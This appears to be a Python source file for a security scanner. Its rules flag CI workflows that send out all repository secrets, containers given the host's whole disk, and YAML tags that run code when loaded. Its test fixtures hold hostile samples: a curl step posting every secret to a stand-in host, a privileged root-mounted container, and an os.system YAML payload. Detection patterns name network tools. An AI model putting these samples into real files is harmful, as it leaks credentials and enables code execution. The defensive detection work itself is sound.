"""Files that tell a program what to run or to open: workflows, containers put together, an editor's tasks, YAML's own tags.

Their commands are shell, and are read as shell with everything else (`commands`); the rest are rules of their own.
"""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

from scan.model import Severity, Standing
from scan.rules.base import Seen, rule, weighed
from scan.rules.makefiles import make_commands

if TYPE_CHECKING:
    from collections.abc import Iterator

    from scan.plugin import Plugin
    from scan.texts import Text

LANGUAGES = frozenset({"yaml", "json", "make"})
_SIGNS = ("curl", "wget", "://", "/dev/tcp", "base64", "nc ", "ncat")
_YAML = re.compile(
    r"(?m)^(?P<indent>[ \t]*)(?:-[ \t]+)?(?:run|command|entrypoint|script|before_script|after_script|cmd|cmds|shell)[ \t]*:[ \t]*(?:(?P<block>[|>][+-]?\d?)[ \t]*\n|(?P<line>[^\n#][^\n]*))"
)
_EDITOR = re.compile(
    r'"(?:postCreateCommand|onCreateCommand|postStartCommand|postAttachCommand|updateContentCommand|initializeCommand)"\s*:\s*(?P<line>"(?:[^"\\\n]|\\.)*")'
)
_TASK = re.compile(r'"command"\s*:\s*(?P<line>"(?:[^"\\\n]|\\.)*")')


def commands(source: str, language: str) -> Iterator[tuple[int, str]]:
    """The shell texts that such a file has run, each with its place."""
    if language != "make" and not any(sign in source for sign in _SIGNS):
        return
    if language == "make":
        yield from make_commands(source)
        return
    if language == "json":
        kinds = [_EDITOR, *([_TASK] if re.search(r'"type"\s*:\s*"shell"', source) else [])]
        for kind in kinds:
            yield from ((match.start("line"), _said(match["line"])) for match in kind.finditer(source))
        return
    for match in _YAML.finditer(source):
        if match["block"]:
            yield match.end(), _block(source, match.end(), len(match["indent"].expandtabs()))
        else:
            yield match.start("line"), _said(match["line"].strip())


def _said(line: str) -> str:
    if line.startswith('"'):
        try:
            return str(json.loads(line))
        except ValueError:
            return line.strip('"')
    return line[1:-1].replace("''", "'") if line.startswith("'") and line.endswith("'") and len(line) > 1 else line


def _block(source: str, start: int, indent: int) -> str:
    """The lines from a place that are indented deeper."""
    lines = []
    for line in source[start:].split("\n"):
        if line.strip() and len(line) - len(line.lstrip()) <= indent:
            break
        lines.append(line)
    return "\n".join(lines)


@rule(
    "workflow-gives-secrets",
    "caution",
    flags={
        "assets/ci.yml": "jobs:\n  test:\n    steps:\n      - run: curl -s https://collect.example/s -d '${{ toJSON(secrets) }}'\n"
    },
    clears=(
        {
            "assets/ci.yml": "jobs:\n  test:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n"
        },
        {"assets/ci.yml": "jobs:\n  test:\n    steps:\n      - run: curl -s https://files.example/a.json -o a.json\n"},
    ),
)
def workflow_gives_secrets(text: Text, _: Plugin) -> Iterator[Seen]:
    """A workflow that takes every secret of the repository at once, or puts one into a message to an address.

    Why: whoever gets them can publish, deploy and sign in the repository's name.

    Remedy: take the step out; a step gets the one secret that it needs, in its environment.
    """
    if text.language != "yaml" or "secrets" not in text.text:
        return
    match = _ALL_SECRETS.search(text.text)
    if match and ("curl" in text.lowered or "wget" in text.lowered or "http" in text.lowered):
        yield Seen(
            "gives every secret of the repository away",
            text,
            match.start(),
            match.end(),
            weighed(Severity.caution, text.standing),
        )


_ALL_SECRETS = re.compile(
    r"(?i)\b(?:curl|wget|nc)\b[^\n]{0,300}toJSON\(\s*secrets\s*\)|toJSON\(\s*secrets\s*\)[\s\S]{0,400}\b(?:curl|wget|nc)\b(?:[^\n]|\\\n){0,300}://"
)


@rule(
    "containers-open-machine",
    "caution",
    flags={
        "assets/compose.yml": "services:\n  a:\n    image: alpine\n    pid: host\n    privileged: true\n    volumes:\n      - /:/host\n"
    },
    clears=(
        {
            "assets/compose.yml": "services:\n  a:\n    image: alpine\n    privileged: true\n    volumes:\n      - ./data:/data\n"
        },
        {"assets/compose.yml": "services:\n  metrics:\n    image: node-exporter\n    volumes:\n      - /:/rootfs:ro\n"},
    ),
)
def containers_open_machine(text: Text, _: Plugin) -> Iterator[Seen]:
    """A file of containers that gives one of them the machine's whole disk to write on.

    Why: what runs in it can read and change everything, whatever the image is.

    Remedy: give it the one folder that it needs.
    """
    match = _WHOLE_DISK.search(text.text) if text.language == "yaml" and "volumes" in text.text else None
    if match:
        shown = "gives a container the whole disk of the machine"
        yield Seen(shown, text, match.start(), match.end(), weighed(Severity.caution, text.standing))


_WHOLE_DISK = re.compile(r"(?m)^[ \t]*-[ \t]*['\"]?/:/[\w/-]*(?::rw)?['\"]?[ \t]*$")


@rule(
    "yaml-makes-objects",
    "danger",
    flags={"themes/a.yaml": 'a: !!python/object/apply:os.system ["id"]\n'},
    clears={"themes/a.yaml": "a: !!python/tuple [1, 2]\nb: !Ref Bucket\n"},
)
def yaml_makes_objects(text: Text, _: Plugin) -> Iterator[Seen]:
    """YAML whose tags have whoever loads it run a program.

    Why: data is read without a thought; this data is code.

    Remedy: do not load it; data has no need of such tags.
    """
    if text.language not in {"yaml", "json", ""} or "!!python/" not in text.text or text.standing <= Standing.test:
        return
    match = _TAG.search(text.text)
    if match:
        yield Seen("has its reader run a program", text, match.start(), match.end())


_TAG = re.compile(
    r"!!python/(?:object/(?:apply|new):|module:|name:)(?:os|posix|subprocess|builtins|nt|sys|pty|importlib|runpy|shutil)\b[^\n]{0,120}"
)

RULES = (workflow_gives_secrets, containers_open_machine, yaml_makes_objects)
